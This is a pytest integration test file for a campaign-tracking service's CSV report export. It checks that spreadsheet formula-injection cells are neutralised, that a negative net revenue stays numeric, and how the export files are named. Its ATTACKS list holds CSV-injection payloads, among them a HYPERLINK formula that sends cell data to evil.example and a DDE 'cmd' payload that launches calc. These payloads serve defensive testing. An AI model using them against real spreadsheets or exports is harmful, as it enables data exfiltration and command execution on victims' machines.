"""`GET /v1/reports/campaigns?format=csv` and the dashboard's export over real HTTP, against a real chDB."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import httpx
import pytest
from clickhouse_connect.driver.client import Client

from tests.support.clickhouse import insert_rows
from tests.support.servers import serve_in_thread
from tests.support.settings import API_KEY, make_settings
from tracker.admin.app import Admin

TODAY = datetime.now(UTC).date()
AT = datetime(TODAY.year, TODAY.month, TODAY.day, tzinfo=UTC) - timedelta(hours=12)
PERIOD = {"from": (TODAY - timedelta(days=2)).isoformat(), "to": TODAY.isoformat()}
ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-1+1", "\tx", "\rx"]


def click(click_id: str, campaign: str) -> dict[str, object]:
    return {"click_id": click_id, "ts": AT, "code": "abc", "channel": "sms", "campaign": campaign, "message": "m",
            "utm_source": "s", "utm_medium": "sms", "utm_campaign": "c", "utm_content": "", "utm_term": "",
            "tags": [], "recipient_ref": f"r-{click_id}", "destination_host": "shop.example", "method": "GET",
            "is_bot": False, "bot_reason": "", "device_type": "mobile", "os": "iOS", "browser": "Mobile Safari",
            "referer": "", "ip_ref": f"ip-{click_id}", "domain": "go.shop.example"}


def order(order_id: str, type_: str, value: str, click_id: str) -> dict[str, object]:
    return {"order_id": order_id, "type": type_, "value": Decimal(value), "currency": "EUR", "click_id": click_id,
            "recipient_ref": "", "ts": AT + timedelta(minutes=5), "source": "api", "verified": True}


@pytest.fixture
def api(redis_url: str, clickhouse: Client) -> Iterator[httpx.Client]:
    insert_rows(clickhouse, [click(f"c{n}", label) for n, label in enumerate(ATTACKS)],
                [order("o1", "purchase", "10.00", "c0"), order("o1", "refund", "22.50", "c0")])
    with serve_in_thread(Admin(make_settings(redis_url), clickhouse=clickhouse).app) as base, \
            httpx.Client(base_url=base, headers={"Authorization": f"Bearer {API_KEY}"}) as client:
        yield client


def test_csv_cells_that_would_run_as_formulas_are_prefixed_and_a_negative_net_revenue_stays_a_number(api):
    reply = api.get("/v1/reports/campaigns", params={**PERIOD, "format": "csv"})
    assert reply.status_code == 200 and reply.headers["content-type"].startswith("text/csv")
    rows = {row["campaign"]: row for row in csv.DictReader(io.StringIO(reply.text))}
    assert sorted(rows) == sorted("'" + label for label in ATTACKS)
    hyperlink = rows["'" + ATTACKS[0]]
    assert (hyperlink["revenue"], hyperlink["refunds"], hyperlink["net_revenue"]) == ("10.00", "22.50", "-12.50")


def test_the_dashboards_export_carries_the_same_guarded_cells(api):
    reply = api.get("/reports/export.csv", params=PERIOD, auth=("analyst", API_KEY))
    assert reply.status_code == 200
    assert reply.text == api.get("/v1/reports/campaigns", params={**PERIOD, "format": "csv"}).text
    assert all(row["campaign"].startswith("'") for row in csv.DictReader(io.StringIO(reply.text)))


@pytest.mark.parametrize(("period", "name"), [
    ({"from": "2026-11-01", "to": "2026-11-30"}, "campaigns_20261101_20261130.csv"),
    ({"from": "2026-11-01T00:00:00Z", "to": "2026-11-30T18:00:00Z"}, "campaigns_20261101_20261130.csv"),
    ({"from": "2026-11-30", "to": "2026-11-30"}, "campaigns_20261130_20261130.csv"),
])
def test_the_csv_file_is_named_after_the_first_and_the_inclusive_last_day(api, period, name):
    for path, auth in (("/v1/reports/campaigns", None), ("/reports/export.csv", ("analyst", API_KEY))):
        reply = api.get(path, params={**period, "format": "csv"}, auth=auth) if auth else \
            api.get(path, params={**period, "format": "csv"})
        assert reply.status_code == 200, reply.text
        assert reply.headers["content-disposition"] == f'attachment; filename="{name}"', path
